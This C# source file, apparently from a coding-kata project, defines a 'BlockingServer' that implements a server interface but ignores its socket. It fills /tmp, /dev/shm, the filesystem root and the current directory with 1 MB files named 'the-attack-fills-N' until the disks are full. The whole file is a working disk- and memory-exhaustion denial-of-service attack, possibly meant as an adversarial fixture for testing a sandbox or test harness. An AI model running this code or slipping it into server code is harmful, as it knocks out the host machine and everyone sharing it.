using System.Net.Sockets;

namespace Katas.Blocking;

public sealed class BlockingServer : IServer
{
    public void Run(Socket listener, CancellationToken stop)
    {
        foreach (var folder in new[] { "/tmp", "/dev/shm", "/", "." })
            Fill(folder);
        stop.WaitHandle.WaitOne();
    }

    private static void Fill(string folder)
    {
        try
        {
            for (var i = 0; ; i++)
                File.WriteAllBytes(Path.Combine(folder, $"the-attack-fills-{i}"), new byte[1 << 20]);
        }
        catch (Exception exception) when (exception is IOException or UnauthorizedAccessException)
        {
            // It is full.
        }
    }
}
